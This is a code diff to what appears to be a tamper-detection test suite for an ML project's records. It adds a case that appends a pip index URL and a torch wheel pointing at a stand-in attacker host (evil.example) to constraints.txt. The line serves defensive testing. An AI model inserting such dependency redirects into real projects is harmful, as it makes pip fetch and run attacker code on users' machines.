@@ -240,6 +240,12 @@ def _version(folder: Path, _: Honest) -> None:
     of_text(folder, "constraints.txt", lambda text: text.replace("astrid-ml==0.1.0", "astrid-ml==9.9.9"))
 
 
+def _address(folder: Path, _: Honest) -> None:
+    """What pip would fetch and run."""
+    evil = "--index-url https://evil.example/simple\ntorch @ https://evil.example/torch.whl\n"
+    of_text(folder, "constraints.txt", lambda text: text + evil)
+
+
 def _version_everywhere(folder: Path, _: Honest) -> None:
     _version(folder, _)
     of_checkpoint(folder, lambda record: replace(record, versions={**record.versions, "astrid-ml": "9.9.9"}))
@@ -320,6 +326,7 @@ TAMPERINGS = (
     Tampering("the seed is changed, and the identity follows", _seed, "identity"),
     Tampering("the record names another version of the code", _version, "checkpoint"),
     Tampering("the same, and the network's record follows", _version_everywhere, "", ""),
+    Tampering("constraints.txt gets an address", _address, "code"),
     Tampering("Croissant's account of biases is changed", _croissant, "", "data"),
     Tampering("remarks are taken out of the record, and report and card follow", _remark, "record"),
     Tampering("the record says other of the labels, and report and card follow", _labels_of_record, "dataset"),
